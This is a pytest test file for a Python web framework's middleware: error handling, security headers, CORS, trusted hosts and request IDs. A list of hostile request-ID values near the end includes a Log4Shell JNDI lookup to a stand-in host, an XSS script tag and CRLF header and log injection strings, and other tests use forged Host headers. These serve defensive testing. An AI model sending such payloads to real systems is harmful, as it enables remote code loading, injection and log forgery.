"""roob/middleware.py: ErrorHandlerMiddleware, SecurityHeadersMiddleware, CORSMiddleware,
TrustedHostMiddleware, RequestIDMiddleware (with roob/logs.py's request_id)."""

from __future__ import annotations

import io
import logging
import re
import runpy
import subprocess
import sys
import textwrap

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import roob.logs
from roob import (
    ConfigurationError,
    CORSMiddleware,
    ErrorHandlerMiddleware,
    NotFound,
    RequestIDMiddleware,
    Response,
    SecurityHeadersMiddleware,
    TrustedHostMiddleware,
)
from roob.logs import REQUEST_ID, RequestIDFilter
from roob.testing import TestClient

INTERNAL_ERROR = {"message": "Internal Server Error"}


# --- raw WSGI applications that fail at different moments -------------------


def fails_on_call(environ, start_response):
    raise ValueError("secret detail")


def fails_before_start_response(environ, start_response):
    raise ValueError("secret detail")
    yield b"never"  # pragma: no cover - makes this a generator


def fails_after_start_response(environ, start_response):
    start_response("200 OK", [("Content-Type", "text/plain")])
    raise ValueError("secret detail")
    yield b"never"  # pragma: no cover


def fails_after_empty_chunks(environ, start_response):
    start_response("200 OK", [("Content-Type", "text/plain")])
    yield b""
    yield b""
    raise ValueError("secret detail")


def fails_after_first_chunk(environ, start_response):
    start_response("200 OK", [("Content-Type", "text/plain")])
    yield b"partial"
    raise ValueError("secret detail")


def works(environ, start_response):
    start_response("200 OK", [("Content-Type", "text/plain")])
    yield b"all "
    yield b"good"


BEFORE_THE_BODY = [
    fails_on_call,
    fails_before_start_response,
    fails_after_start_response,
    fails_after_empty_chunks,
]


class ClosingBody:
    """An app_iter that records whether the server closed it."""

    def __init__(self, chunks, fail_at=None):
        self.chunks = chunks
        self.fail_at = fail_at
        self.closed = False

    def __iter__(self):
        for index, chunk in enumerate(self.chunks):
            if index == self.fail_at:
                raise ValueError("secret detail")
            yield chunk

    def close(self):
        self.closed = True


# --- ErrorHandlerMiddleware through TestClient (wsgiref.validate) ------------


@pytest.mark.parametrize("wrapped", BEFORE_THE_BODY)
def test_an_error_before_the_body_is_a_500_json(wrapped, caplog):
    client = TestClient(ErrorHandlerMiddleware(app=wrapped))
    response = client.get("/orders")
    assert response.status_code == 500
    assert response.headers["Content-Type"] == "application/json"
    assert response.json() == INTERNAL_ERROR
    assert "secret detail" not in response.text
    [record] = [r for r in caplog.records if r.name == "roob"]
    assert record.levelno == logging.ERROR
    assert isinstance(record.exc_info[1], ValueError)
    assert "/orders" in record.getMessage()


@pytest.mark.parametrize("wrapped", BEFORE_THE_BODY)
def test_debug_shows_the_exception_text(wrapped):
    response = TestClient(ErrorHandlerMiddleware(app=wrapped, debug=True)).get("/")
    assert response.status_code == 500
    assert response.json() == {"message": "ValueError: secret detail"}


@pytest.mark.parametrize("wrapped", BEFORE_THE_BODY)
def test_head_gets_the_500_without_body(wrapped):
    response = TestClient(ErrorHandlerMiddleware(app=wrapped)).head("/")
    assert response.status_code == 500
    assert response.content == b""


def test_an_error_after_the_first_chunk_is_logged_and_raised_for_the_server_to_abort(caplog):
    # A server that gets the exception aborts the connection (tests/integration).
    with pytest.raises(ValueError, match="secret detail"):
        TestClient(ErrorHandlerMiddleware(app=fails_after_first_chunk)).get("/stream")
    [record] = [r for r in caplog.records if r.name == "roob"]
    assert (
        record.getMessage() == "Error after the response started, connection aborted: GET /stream"
    )
    assert isinstance(record.exc_info[1], ValueError)


def test_a_working_app_passes_through():
    response = TestClient(ErrorHandlerMiddleware(app=works)).get("/")
    assert response.status_code == 200
    assert response.text == "all good"


# --- ErrorHandlerMiddleware called directly ----------------------------------


@pytest.mark.parametrize("app", BEFORE_THE_BODY, ids=lambda app: app.__name__)
def test_the_server_sees_only_the_500_when_no_body_was_sent(call_wsgi, app):
    start_response, body = call_wsgi(ErrorHandlerMiddleware(app=app))
    # The failed response's status and headers were held, never passed on.
    assert start_response.calls == [
        (
            "500 Internal Server Error",
            [("Content-Type", "application/json"), ("Content-Length", str(len(body)))],
            None,
        )
    ]
    assert body == b'{"message":"Internal Server Error"}'


def test_after_the_first_chunk_the_error_reaches_the_server(call_wsgi):
    with pytest.raises(ValueError, match="secret detail"):
        call_wsgi(ErrorHandlerMiddleware(app=fails_after_first_chunk))


def test_a_body_of_empty_chunks_only_is_started_when_it_ends(call_wsgi):
    def empty(environ, start_response):
        start_response("204 No Content", [])
        yield b""

    start_response, body = call_wsgi(ErrorHandlerMiddleware(app=empty))
    assert (start_response.status, body) == ("204 No Content", b"")


def test_the_legacy_write_callable_starts_the_response(call_wsgi):
    def writer(environ, start_response):
        write = start_response("200 OK", [("Content-Type", "text/plain")])
        write(b"written")
        return []

    start_response, _ = call_wsgi(ErrorHandlerMiddleware(app=writer))
    assert start_response.written == [b"written"]


def test_a_list_body_is_returned_as_it_is(start_response):
    body = [b"ready"]

    def listing(environ, start_response):
        start_response("200 OK", [("Content-Type", "text/plain")])
        return body

    assert ErrorHandlerMiddleware(app=listing)({"REQUEST_METHOD": "GET"}, start_response) is body


@pytest.mark.parametrize("fail_at", [None, 0, 1], ids=["success", "before-body", "mid-body"])
def test_the_wrapped_body_is_closed(call_wsgi, fail_at):
    body = ClosingBody([b"one", b"two"], fail_at=fail_at)

    def closing(environ, start_response):
        start_response("200 OK", [("Content-Type", "text/plain")])
        return body

    if fail_at == 1:
        with pytest.raises(ValueError, match="secret detail"):
            call_wsgi(ErrorHandlerMiddleware(app=closing))
    else:
        _, content = call_wsgi(ErrorHandlerMiddleware(app=closing))
        assert content == {None: b"onetwo", 0: b'{"message":"Internal Server Error"}'}[fail_at]
    assert body.closed


def test_the_wrapped_body_is_closed_through_test_client():
    body = ClosingBody([b"one"], fail_at=0)

    def closing(environ, start_response):
        start_response("200 OK", [("Content-Type", "text/plain")])
        return body

    assert TestClient(ErrorHandlerMiddleware(app=closing)).get("/").status_code == 500
    assert body.closed


# --- ErrorHandlerMiddleware around a Roob application -----------------------


def streaming_view(request):
    def stream(environ, start_response):
        start_response("200 OK", [("Content-Type", "text/plain")])
        raise RuntimeError("stream broke")
        yield b""  # pragma: no cover

    return stream


def test_it_catches_what_escapes_a_roob_application(app):
    app.add_route("/stream", streaming_view)
    wrapped = ErrorHandlerMiddleware(app=app)
    response = TestClient(wrapped).get("/stream")
    assert response.status_code == 500
    assert response.json() == INTERNAL_ERROR
    assert TestClient(wrapped).get("/missing").status_code == 404


def test_it_can_be_added_as_middleware(app, client):
    def broken(environ, start_response):
        raise RuntimeError("outside the application")

    app.add_middleware(lambda wsgi: broken)  # a middleware that fails, under the handler
    app.add_middleware(ErrorHandlerMiddleware, debug=True)
    response = client.get("/anything")
    assert response.status_code == 500
    assert response.json() == {"message": "RuntimeError: outside the application"}


def test_a_roob_application_answers_a_stream_that_breaks_before_it_begins_itself(app, client):
    app.add_route("/stream", streaming_view)
    app.add_middleware(ErrorHandlerMiddleware, debug=True)
    response = client.get("/stream")
    assert response.status_code == 500
    assert response.json() == INTERNAL_ERROR  # the application's own 500 (not in debug)
    assert response.headers["Content-Type"] == "application/json"


# --- SecurityHeadersMiddleware ----------------------------------------------


@pytest.fixture
def secure_app(app):
    @app.get("/api")
    def api(request):
        return {"ok": True}

    @app.get("/page")
    def page(request):
        return "<h1>page</h1>"

    @app.get("/framed")
    def framed(request):
        return "<h1>framed</h1>", 200, {"X-Frame-Options": "SAMEORIGIN"}

    return app


def test_security_headers_on_every_response(secure_app, client):
    secure_app.add_middleware(SecurityHeadersMiddleware)
    for path in ("/api", "/page", "/missing"):
        headers = client.get(path).headers
        assert headers["X-Content-Type-Options"] == "nosniff"
        assert headers["Referrer-Policy"] == "strict-origin-when-cross-origin"
        assert "Strict-Transport-Security" not in headers


def test_html_gets_csp_and_frame_protection(secure_app, client):
    secure_app.add_middleware(SecurityHeadersMiddleware)
    page = client.get("/page").headers
    assert "default-src 'self'" in page["Content-Security-Policy"]
    assert page["X-Frame-Options"] == "DENY"
    api = client.get("/api").headers
    assert "Content-Security-Policy" not in api
    assert "X-Frame-Options" not in api


def test_headers_the_app_set_are_kept(secure_app, client):
    secure_app.add_middleware(SecurityHeadersMiddleware)
    assert client.get("/framed").headers.getall("X-Frame-Options") == ["SAMEORIGIN"]


def test_security_headers_are_configurable(secure_app, client):
    secure_app.add_middleware(
        SecurityHeadersMiddleware,
        content_security_policy=None,
        frame_options="SAMEORIGIN",
        referrer_policy=None,
        content_type_options=False,
        strict_transport_security="max-age=63072000",
    )
    headers = client.get("/page").headers
    assert "Content-Security-Policy" not in headers
    assert "Referrer-Policy" not in headers
    assert "X-Content-Type-Options" not in headers
    assert headers["X-Frame-Options"] == "SAMEORIGIN"
    assert headers["Strict-Transport-Security"] == "max-age=63072000"


# --- CORSMiddleware ---------------------------------------------------------


@pytest.fixture
def api(app):
    calls = []

    @app.route("/items", methods=["GET", "POST"])
    def items(request):
        calls.append(request.method)
        return Response(json=[1], headers={"Vary": "Accept"})

    app.calls = calls
    return app


def test_no_origin_no_cors_headers(api, client):
    api.add_middleware(CORSMiddleware, allow_origins=["https://shop.example"])
    headers = client.get("/items").headers
    assert "Access-Control-Allow-Origin" not in headers
    assert headers["Vary"] == "Accept"


def test_an_allowed_origin_is_echoed(api, client):
    api.add_middleware(
        CORSMiddleware, allow_origins=["https://shop.example"], expose_headers=["X-Total"]
    )
    response = client.get("/items", headers={"Origin": "https://shop.example"})
    assert response.json() == [1]
    assert response.headers["Access-Control-Allow-Origin"] == "https://shop.example"
    assert response.headers["Access-Control-Expose-Headers"] == "X-Total"
    assert response.headers.getall("Vary") == ["Accept, Origin"]
    assert "Access-Control-Allow-Credentials" not in response.headers


def test_another_origin_gets_no_cors_headers(api, client):
    api.add_middleware(CORSMiddleware, allow_origins=["https://shop.example"])
    response = client.get("/items", headers={"Origin": "https://evil.example"})
    assert response.status_code == 200
    assert "Access-Control-Allow-Origin" not in response.headers


def test_any_origin(api, client):
    api.add_middleware(CORSMiddleware, allow_origins=["*"])
    response = client.get("/items", headers={"Origin": "https://anyone.example"})
    assert response.headers["Access-Control-Allow-Origin"] == "*"
    assert response.headers["Vary"] == "Accept"


def test_any_origin_with_credentials_echoes_the_origin(api, client):
    api.add_middleware(CORSMiddleware, allow_origins=["*"], allow_credentials=True)
    response = client.get("/items", headers={"Origin": "https://anyone.example"})
    assert response.headers["Access-Control-Allow-Origin"] == "https://anyone.example"
    assert response.headers["Access-Control-Allow-Credentials"] == "true"
    assert "Origin" in response.headers["Vary"]


def test_cors_headers_on_error_responses(api, client):
    api.add_middleware(CORSMiddleware, allow_origins=["https://shop.example"])
    response = client.get("/missing", headers={"Origin": "https://shop.example"})
    assert response.status_code == 404
    assert response.headers["Access-Control-Allow-Origin"] == "https://shop.example"


def preflight(client, origin="https://shop.example", method="POST", headers="Content-Type"):
    request_headers = {"Origin": origin, "Access-Control-Request-Method": method}
    if headers:
        request_headers["Access-Control-Request-Headers"] = headers
    return client.options("/items", headers=request_headers)


def test_a_preflight_is_answered_without_the_app(api, client):
    api.add_middleware(CORSMiddleware, allow_origins=["https://shop.example"], max_age=120)
    response = preflight(client)
    assert response.status_code == 204
    assert response.content == b""
    assert response.headers["Access-Control-Allow-Origin"] == "https://shop.example"
    assert "POST" in response.headers["Access-Control-Allow-Methods"].split(", ")
    assert "content-type" in response.headers["Access-Control-Allow-Headers"].split(", ")
    assert response.headers["Access-Control-Max-Age"] == "120"
    assert api.calls == []


def test_any_header_is_allowed_with_a_star(api, client):
    api.add_middleware(CORSMiddleware, allow_origins=["*"], allow_headers=["*"])
    response = preflight(client, headers="X-Custom, X-Other")
    assert response.status_code == 204
    assert response.headers["Access-Control-Allow-Headers"] == "x-custom, x-other"


@pytest.mark.parametrize(
    ("kwargs", "fragment"),
    [
        ({"origin": "https://evil.example"}, "origin 'https://evil.example' is not allowed"),
        ({"method": "DELETE"}, "method DELETE is not allowed"),
        ({"headers": "Content-Type, X-Secret"}, "headers are not allowed: x-secret"),
    ],
    ids=["origin", "method", "header"],
)
def test_a_refused_preflight_is_a_400_saying_why(api, client, kwargs, fragment):
    api.add_middleware(
        CORSMiddleware, allow_origins=["https://shop.example"], allow_methods=["GET", "POST"]
    )
    response = preflight(client, **kwargs)
    assert response.status_code == 400
    assert fragment in response.json()["message"]
    assert "Access-Control-Allow-Origin" not in response.headers
    assert api.calls == []


def test_a_plain_options_request_reaches_the_app(api, client):
    api.add_middleware(CORSMiddleware, allow_origins=["https://shop.example"])
    response = client.options("/items", headers={"Origin": "https://shop.example"})
    assert response.status_code == 204
    assert "GET" in response.headers["Allow"]


def test_a_credentialed_preflight_without_requested_headers(api, client):
    api.add_middleware(
        CORSMiddleware, allow_origins=["*"], allow_headers=["*"], allow_credentials=True
    )
    response = preflight(client, origin="https://anyone.example", headers=None)
    assert response.status_code == 204
    assert response.headers["Access-Control-Allow-Origin"] == "https://anyone.example"
    assert response.headers["Access-Control-Allow-Credentials"] == "true"
    assert "Access-Control-Allow-Headers" not in response.headers


def test_vary_origin_is_not_added_twice(app, client):
    @app.get("/varied")
    def varied(request):
        return Response(json=[1], headers={"Vary": "Accept, origin"})

    app.add_middleware(CORSMiddleware, allow_origins=["https://shop.example"])
    response = client.get("/varied", headers={"Origin": "https://shop.example"})
    assert response.headers["Vary"] == "Accept, origin"


def test_a_late_start_response_with_exc_info_raises_the_error_for_the_server(call_wsgi):
    def writes_then_fails(environ, start_response):
        write = start_response("200 OK", [("Content-Type", "text/plain")])
        write(b"sent")
        try:
            raise ValueError("after the write")
        except ValueError:
            start_response("500 Internal Server Error", [], sys.exc_info())
        return []  # pragma: no cover - start_response raised

    with pytest.raises(ValueError, match="after the write"):
        call_wsgi(ErrorHandlerMiddleware(app=writes_then_fails))


def test_an_app_failing_after_a_legacy_write_is_not_restarted(call_wsgi):
    def writes_then_raises(environ, start_response):
        start_response("200 OK", [("Content-Type", "text/plain")])(b"sent")
        raise ValueError("after the write")

    with pytest.raises(ValueError, match="after the write"):
        call_wsgi(ErrorHandlerMiddleware(app=writes_then_raises))


def test_a_body_without_close_is_streamed(call_wsgi):
    class Chunks:
        def __iter__(self):
            yield b"a"
            yield b"b"

    def plain(environ, start_response):
        start_response("200 OK", [("Content-Type", "text/plain")])
        return Chunks()

    assert call_wsgi(ErrorHandlerMiddleware(app=plain))[1] == b"ab"


# --- TrustedHostMiddleware -----------------------------------------------------


@pytest.mark.parametrize(
    ("host", "allowed"),
    [
        ("shop.example", True),
        ("SHOP.example:8000", True),
        ("shop.example.", True),
        ("evil.example", False),
        ("shop.example.evil.example", False),
        ("api.example", True),
        ("v1.api.example", True),
        ("xapi.example", False),
        ("[::1]:8000", True),
        ("[::2]", False),
        ("", False),
        # forged: a host WebOb would take as evil.com when building URLs
        ("shop.example:@evil.com", False),
        ("evil.com/.api.example", False),
        ("evil.com#.api.example", False),
        ("evil.com?x=.api.example", False),
        ("shop.example:80x", False),
    ],
)
def test_trusted_hosts_are_names_domains_and_addresses(host, allowed):
    middleware = TrustedHostMiddleware(
        works, allowed_hosts=["shop.example", ".api.example", "[::1]"]
    )
    assert middleware.allows(host) is allowed


def test_a_host_that_is_not_allowed_gets_a_json_400(caplog):
    client = TestClient(TrustedHostMiddleware(works, allowed_hosts=["shop.example"]))
    assert client.get("/", headers={"Host": "shop.example"}).text == "all good"
    refused = client.get("/", headers={"Host": "evil.example"})
    assert refused.status_code == 400
    assert refused.json() == {"message": "Requests for the host 'evil.example' are not served here"}
    assert "refused a request for the host 'evil.example'" in caplog.text


def test_an_ipv6_entry_may_be_written_with_or_without_brackets():
    middleware = TrustedHostMiddleware(works, allowed_hosts=["::1", "[::2]"])
    assert middleware.allows("[::1]:8000")
    assert middleware.allows("[::2]")


def test_a_body_closed_without_being_iterated_is_closed_all_the_same(start_response):
    body = ClosingBody([b"one"])

    def closing(environ, start_response):
        start_response("200 OK", [("Content-Type", "text/plain")])
        return body

    ErrorHandlerMiddleware(app=closing)({"REQUEST_METHOD": "GET"}, start_response).close()
    assert body.closed


def test_an_error_after_bytes_is_logged_once_when_handlers_nest(caplog):
    nested = ErrorHandlerMiddleware(app=ErrorHandlerMiddleware(app=fails_after_first_chunk))
    with pytest.raises(ValueError, match="secret detail"):
        TestClient(nested).get("/stream")
    assert len([r for r in caplog.records if r.name == "roob"]) == 1


def test_any_host_is_allowed_with_a_star():
    assert TrustedHostMiddleware(works, allowed_hosts=["*"]).allows("anything.example")


@pytest.mark.parametrize("hosts", [[], [""], ["  "]])
def test_trusted_hosts_must_name_a_host(hosts):
    with pytest.raises(ConfigurationError, match="allowed_hosts must name at least one host"):
        TrustedHostMiddleware(works, allowed_hosts=hosts)


# --- RequestIDMiddleware ---------------------------------------------------------

NEW_ID = re.compile(r"[0-9a-f]{32}\Z")  # uuid4().hex


def roob_records(caplog):
    return [r for r in caplog.records if r.name == "roob"]


@pytest.fixture
def traced(app):
    """An application with a request id, answering in each of the ways it can."""

    @app.get("/id")
    def show(request):
        return {"id": request.id}

    @app.get("/broken")
    def broken(request):
        raise RuntimeError("view broke")

    @app.get("/gone")
    def gone(request):
        raise NotFound("no such thing")

    @app.get("/stream")
    def stream(request):
        def chunks():
            yield b"one "
            yield b"two"

        return Response(app_iter=chunks(), content_type="text/plain")

    @app.get("/stream-broken-at-once")
    def broken_at_once(request):
        def chunks():
            raise RuntimeError("stream broke before its first byte")
            yield b""  # pragma: no cover

        return Response(app_iter=chunks(), content_type="text/plain")

    @app.get("/stream-broken-later")
    def broken_later(request):
        def chunks():
            yield b"partial"
            raise RuntimeError("stream broke after its first byte")

        return Response(app_iter=chunks(), content_type="text/plain")

    @app.get("/own")
    def own(request):
        return {}, 200, {"X-Request-ID": "set-by-the-view"}

    app.add_middleware(RequestIDMiddleware)
    return app


def test_each_request_gets_a_new_id_sent_back_and_seen_by_the_view(traced, client):
    first, second = client.get("/id"), client.get("/id")
    assert NEW_ID.match(first.headers["X-Request-ID"])
    assert first.json() == {"id": first.headers["X-Request-ID"]}
    assert second.json() == {"id": second.headers["X-Request-ID"]}
    assert first.headers["X-Request-ID"] != second.headers["X-Request-ID"]


def test_request_id_is_none_without_the_middleware(app, client):
    @app.get("/id")
    def show(request):
        return {"id": request.id}

    assert client.get("/id").json() == {"id": None}
    assert "X-Request-ID" not in client.get("/id").headers


@pytest.mark.parametrize(
    "path",
    ["/id", "/missing", "/broken", "/gone", "/stream", "/stream-broken-at-once"],
)
@pytest.mark.parametrize("method", ["GET", "HEAD", "POST"])
def test_every_answer_carries_the_id(traced, client, path, method):
    # 200, 404, 405 (POST), 500 from a view, an HTTPError, a streamed body, a stream that
    # broke before its first byte (the application's own 500, started while iterating).
    response = client.request(method, path)
    assert NEW_ID.match(response.headers["X-Request-ID"]), (response.status_code, path)


def test_an_answer_that_sets_the_header_keeps_it(traced, client):
    assert client.get("/own").headers.getall("X-Request-ID") == ["set-by-the-view"]


def test_an_incoming_id_is_ignored_unless_trusted(traced, client):
    response = client.get("/id", headers={"X-Request-ID": "chosen-by-the-client"})
    assert NEW_ID.match(response.headers["X-Request-ID"])
    assert response.json()["id"] == response.headers["X-Request-ID"]


@pytest.mark.parametrize(
    "incoming",
    [
        "3f2a9c1e-7b4d-4e1a-9f0c-2d6b8e4a1c3f",  # a UUID (nginx $request_id is 32 hex)
        "0123456789abcdef0123456789abcdef",
        "Root=1-67891233-abcdef012345678912345678",  # AWS ALB X-Amzn-Trace-Id
        "YWJj+ZGVm/Z2hp==",  # base64 (Heroku: alphanumerics, +, /, =, -)
        "req_01@edge~2.eu:7",  # Rails keeps \w, - and @
        "x" * 200,
    ],
)
def test_a_trusted_proxys_well_formed_id_is_used(app, incoming):
    @app.get("/id")
    def show(request):
        return {"id": request.id}

    app.add_middleware(RequestIDMiddleware, trust_incoming=True)
    response = TestClient(app).get("/id", headers={"X-Request-ID": incoming})
    assert response.headers["X-Request-ID"] == incoming
    assert response.json() == {"id": incoming}


# Values a client may put in the header to reach logs, headers or log viewers: log
# injection and forging (OWASP Logging Cheat Sheet, CWE-117: CR, LF, other controls),
# Log4Shell's lookup (CVE-2021-44228), HTML for a log viewer (OWASP XSS), header
# splitting (OWASP HTTP Response Splitting), what a server makes of two headers (joined
# with ", "), a length past any id (Heroku's bound is 200; Rails truncates at 255),
# non-ASCII and lookalikes, the empty value.
HOSTILE_IDS = [
    "",
    "x" * 201,
    "abc\r\nX-Injected: 1",
    "abc\nERROR forged log line",
    "abc\rdef",
    "abc\x00def",
    "abc\tdef",
    "abc\x1b[31mred",
    "abc\x7f",
    "two words",
    "first, second",
    "${jndi:ldap://evil.example/a}",
    "<script>alert(1)</script>",
    '"quoted"',
    "it's",
    "back\\slash",
    "%0d%0aSet-Cookie:x=1",
    "semi;colon",
    "ünïcode",
    "\u2028line-separator",
    "\uff41\uff42\uff43",  # fullwidth abc
    "abc\u200b",  # zero-width space
]


@pytest.mark.parametrize("incoming", HOSTILE_IDS)
def test_a_hostile_incoming_id_is_replaced_by_a_new_one(start_response, incoming):
    seen = []

    def inner(environ, start_response):
        seen.append((environ["roob.request_id"], REQUEST_ID.get()))
        start_response("200 OK", [("Content-Type", "text/plain")])
        return [b"ok"]

    middleware = RequestIDMiddleware(inner, trust_incoming=True)
    environ = {"REQUEST_METHOD": "GET", "HTTP_X_REQUEST_ID": incoming}
    assert middleware(environ, start_response) == [b"ok"]
    [(request_id, in_context)] = seen
    assert NEW_ID.match(request_id)
    assert in_context == request_id
    assert start_response.headers["X-Request-ID"] == request_id


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=300))
def test_whatever_a_client_sends_the_id_is_safe_to_log_and_send(incoming):
    middleware = RequestIDMiddleware(works, trust_incoming=True)
    request_id = middleware.request_id({"HTTP_X_REQUEST_ID": incoming})
    assert request_id == incoming or NEW_ID.match(request_id)
    assert 1 <= len(request_id) <= 200
    assert request_id.isascii()
    assert request_id.isprintable()
    assert not set(request_id) & set(" \t\r\n\"',;\\%<>{}$")


def test_another_header_may_carry_the_id(app):
    @app.get("/id")
    def show(request):
        return {"id": request.id}

    app.add_middleware(RequestIDMiddleware, header="X-Correlation-ID", trust_incoming=True)
    client = TestClient(app)
    response = client.get("/id", headers={"X-Correlation-ID": "abc-123", "X-Request-ID": "no"})
    assert response.headers["X-Correlation-ID"] == "abc-123"
    assert "X-Request-ID" not in response.headers
    assert response.json() == {"id": "abc-123"}


@pytest.mark.parametrize("header", ["", "X Request ID", "X-Request-ID\r\n", "X-Réquest", "a:b"])
def test_a_header_that_is_not_a_header_name_is_refused_when_added(app, header):
    with pytest.raises(ConfigurationError, match=r"RequestIDMiddleware\(header=.*'X-Request-ID'"):
        app.add_middleware(RequestIDMiddleware, header=header)


# --- the request id on log records -------------------------------------------------


def test_roobs_log_records_during_a_request_carry_its_id(traced, client, caplog):
    response = client.get("/broken")
    [record] = roob_records(caplog)
    assert record.getMessage() == "Unhandled exception: GET /broken"
    assert record.request_id == response.headers["X-Request-ID"]


def test_a_record_written_while_a_stream_is_sent_carries_the_id(traced, client, caplog):
    # Logged during the server's iteration, after the application returned.
    with pytest.raises(RuntimeError, match="after its first byte"):
        client.get("/stream-broken-later")
    [record] = roob_records(caplog)
    assert record.getMessage().startswith("Error after the response started")
    assert NEW_ID.match(record.request_id)


def test_a_stream_that_fails_before_its_first_byte_is_logged_with_the_id(traced, client, caplog):
    response = client.get("/stream-broken-at-once")
    assert response.status_code == 500
    [record] = roob_records(caplog)
    assert record.request_id == response.headers["X-Request-ID"]


def test_records_outside_a_request_have_none(traced, client, caplog):
    client.get("/broken")
    logging.getLogger("roob").warning("between requests")
    assert roob_records(caplog)[-1].request_id is None
    assert REQUEST_ID.get() is None


def test_two_streams_sent_in_turns_each_log_their_own_id():
    # A threaded server may interleave bodies; each chunk is produced under its own id.
    def inner(environ, start_response):
        start_response("200 OK", [("Content-Type", "text/plain")])

        def chunks():
            for _ in range(3):
                yield REQUEST_ID.get().encode()

        return chunks()

    middleware = RequestIDMiddleware(inner)
    ignore = lambda status, headers, exc_info=None: None  # noqa: E731
    first = middleware({"REQUEST_METHOD": "GET"}, ignore)
    second = middleware({"REQUEST_METHOD": "GET"}, ignore)
    chunks = [next(iter(body)) for _ in range(3) for body in (first, second)]
    assert chunks[0::2] == [chunks[0]] * 3
    assert chunks[1::2] == [chunks[1]] * 3
    assert chunks[0] != chunks[1]
    assert REQUEST_ID.get() is None


class LogsWhenClosed:
    """A streamed body whose close() logs on the roob logger, as a teardown would."""

    def __init__(self):
        self.closed = False

    def __iter__(self):
        yield b"body"

    def close(self):
        self.closed = True
        logging.getLogger("roob").warning("closing the body")


@pytest.mark.parametrize("iterate", [True, False], ids=["sent", "never-iterated"])
def test_a_bodys_close_runs_under_the_id(caplog, start_response, iterate):
    body = LogsWhenClosed()

    def inner(environ, start_response):
        start_response("200 OK", [("Content-Type", "text/plain")])
        return body

    sent = RequestIDMiddleware(inner)({"REQUEST_METHOD": "GET"}, start_response)
    if iterate:
        assert list(sent) == [b"body"]
    sent.close()
    assert body.closed
    [record] = roob_records(caplog)
    assert record.request_id == start_response.headers["X-Request-ID"]


def test_a_streamed_body_without_close_is_sent(call_wsgi):
    def inner(environ, start_response):
        start_response("200 OK", [("Content-Type", "text/plain")])
        return iter([b"a", b"b"])

    start_response, body = call_wsgi(RequestIDMiddleware(inner))
    assert body == b"ab"
    assert NEW_ID.match(start_response.headers["X-Request-ID"])


def test_a_list_or_file_wrapper_body_is_passed_on_as_it_is(start_response):
    # A list has nothing left to run; the server's file wrapper must stay one for sendfile.
    class FileWrapper:
        def __init__(self, file, block_size=8192):
            self.file = file

        def __iter__(self):
            return iter([b"file"])  # pragma: no cover - identity is checked only

    listed, wrapped = [b"listed"], FileWrapper(None)
    for body in (listed, wrapped):

        def inner(environ, start_response, body=body):
            start_response("200 OK", [])
            return body

        environ = {"REQUEST_METHOD": "GET", "wsgi.file_wrapper": FileWrapper}
        assert RequestIDMiddleware(inner)(environ, start_response) is body


def test_an_error_escaping_the_application_resets_the_context(start_response):
    def inner(environ, start_response):
        raise RuntimeError("not a Roob application")

    with pytest.raises(RuntimeError):
        RequestIDMiddleware(inner)({"REQUEST_METHOD": "GET"}, start_response)
    assert REQUEST_ID.get() is None


def test_an_error_handler_inside_sends_its_500_with_the_id(caplog):
    # Added last (outermost), the id covers the answers of the middleware inside it.
    client = TestClient(RequestIDMiddleware(ErrorHandlerMiddleware(app=fails_on_call)))
    response = client.get("/")
    assert response.status_code == 500
    [record] = roob_records(caplog)
    assert record.request_id == response.headers["X-Request-ID"]


def test_a_filter_on_a_handler_gives_the_applications_records_the_id(traced):
    @traced.get("/mine")
    def mine(request):
        logging.getLogger("my.app").warning("in the view")
        return {}

    lines = io.StringIO()
    handler = logging.StreamHandler(lines)
    handler.addFilter(RequestIDFilter())
    handler.setFormatter(logging.Formatter("%(request_id)s %(name)s %(message)s"))
    mine_logger = logging.getLogger("my.app")
    mine_logger.addHandler(handler)
    try:
        response = TestClient(traced).get("/mine")
        mine_logger.warning("after the request")
    finally:
        mine_logger.removeHandler(handler)
    assert lines.getvalue().splitlines() == [
        f"{response.headers['X-Request-ID']} my.app in the view",
        "None my.app after the request",
    ]


def test_a_record_that_has_an_id_keeps_it():
    # A handler in another thread (a QueueHandler's listener) sees the caller's id.
    record = logging.makeLogRecord({"msg": "queued", "request_id": "from-the-request"})
    assert RequestIDFilter().filter(record)
    assert record.request_id == "from-the-request"


APP_WITH_ID = textwrap.dedent("""
    from roob import RequestIDMiddleware, Roob

    app = Roob(static_dir=None)

    @app.get("/boom")
    def boom(request):
        raise RuntimeError("it broke")

    app.add_middleware(RequestIDMiddleware, trust_incoming=True)
""")


def test_without_logging_set_up_the_id_is_in_the_line_on_stderr(tmp_path):
    (tmp_path / "logged.py").write_text(APP_WITH_ID)
    script = (
        "from roob.testing import TestClient; from logged import app;"
        "TestClient(app).get('/boom', headers={'X-Request-ID': 'req-42'});"
        "import logging; logging.getLogger('roob').warning('outside %s', 'any request')"
    )
    completed = subprocess.run(
        [sys.executable, "-c", script], cwd=tmp_path, capture_output=True, text=True, timeout=60
    )
    assert re.search(
        r"\] \[ERROR\] roob: \[request_id=req-42\] Unhandled exception: GET /boom\n"
        r"Traceback \(most recent call last\):",
        completed.stderr,
    ), completed.stderr
    assert "[WARNING] roob: outside any request\n" in completed.stderr


def test_roob_logs_run_twice_leaves_one_working_filter_and_handler():
    # coverage imports a source package to find it, then forgets it (sys.modules restored):
    # roob/logs.py runs again on the next import, while the "roob" logger stays.
    roob_logger = logging.getLogger("roob")
    foreign = logging.Filter()  # someone else's, which lets every record through
    roob_logger.addFilter(foreign)
    try:
        again = runpy.run_path(roob.logs.__file__, run_name="roob.logs")
        assert [type(f) for f in roob_logger.filters] == [logging.Filter, again["RequestIDFilter"]]
        assert [type(h) for h in roob_logger.handlers] == [again["_UnlessConfigured"]]
        token = again["REQUEST_ID"].set("after-the-second-run")
        try:
            record = roob_logger.makeRecord("roob", logging.INFO, "x", 1, "m", None, None)
            roob_logger.filter(record)
        finally:
            again["REQUEST_ID"].reset(token)
        assert record.request_id == "after-the-second-run"
    finally:
        roob_logger.removeFilter(foreign)
        roob.logs._install()
    assert [type(f) for f in roob_logger.filters] == [RequestIDFilter]
